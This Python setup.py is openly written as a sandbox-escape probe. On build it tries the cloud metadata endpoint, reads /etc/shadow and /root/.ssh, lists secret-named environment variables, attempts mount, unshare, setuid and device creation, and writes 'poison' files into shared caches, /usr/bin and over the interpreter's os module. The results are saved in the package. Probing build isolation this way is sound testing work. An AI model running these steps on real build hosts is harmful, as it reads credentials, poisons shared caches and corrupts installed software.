"""A build script that looks for ways out of its sandbox and writes down what it found."""
import ctypes, json, os, socket
from setuptools import setup

HOST_PORT = int(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "port.txt")).read())

def tried(name, act):
    try:
        found[name] = "OPEN: " + str(act())[:200]
    except Exception as e:
        found[name] = "closed: " + type(e).__name__

def connect(address, port):
    s = socket.create_connection((address, port), timeout=3)
    s.sendall(b"GET / HTTP/1.0\r\n\r\n")
    data = s.recv(100)
    if not data:
        raise ConnectionError("nothing came back")
    return data

def write(path):
    with open(path, "w") as f:
        f.write("poison")
    return "written"

def libc(name, *arguments):
    library = ctypes.CDLL(None, use_errno=True)
    if getattr(library, name)(*arguments) != 0:
        raise OSError(ctypes.get_errno(), name)
    return name

def mount():
    return libc("mount", b"none", b"/tmp", b"tmpfs", 0, None)

def unshare():
    return libc("unshare", 0x10000000)

found = {"uid": str(os.getuid())}
tried("host loopback", lambda: connect("127.0.0.1", HOST_PORT))
tried("metadata", lambda: connect("169.254.169.254", 80))
tried("private", lambda: connect("10.0.0.1", 80))
tried("shadow", lambda: open("/etc/shadow").read())
tried("data folder", lambda: os.listdir("DATA"))
tried("home of root", lambda: os.listdir("/root/.ssh"))
tried("shared downloads", lambda: write("/cache-shared/poison"))
tried("source", lambda: write("/source/poison"))
tried("interpreter", lambda: write(os.path.join(os.__file__)))
tried("usr", lambda: write("/usr/bin/poison"))
tried("uv", lambda: write("/uv/poison"))
tried("mount", mount)
tried("new namespace", unshare)
tried("root uid", lambda: os.setuid(0) or os.getuid() == 0 and open("/etc/shadow"))
tried("device", lambda: os.mknod("/tmp/sda", 0o060600, os.makedev(8, 0)))
tried("other processes", lambda: [p for p in os.listdir("/proc") if p.isdigit() and b"real" in open("/proc/%s/cmdline" % p, "rb").read()][0])
found["secrets"] = "OPEN: " + str([k for k in os.environ if "TOKEN" in k or "SECRET" in k]) if any("TOKEN" in k or "SECRET" in k for k in os.environ) else "closed"
try:
    write("/cache/poison")
    for folder in os.listdir("/cache"):
        if folder.startswith("wheels"):
            write("/cache/%s/poison" % folder)
except OSError:
    pass
os.makedirs("probe_pkg", exist_ok=True)
open("probe_pkg/__init__.py", "w").close()
with open("probe_pkg/found.json", "w") as f:
    json.dump(found, f)
setup(name="probe-pkg", version="1", packages=["probe_pkg"], package_data={"probe_pkg": ["found.json"]})
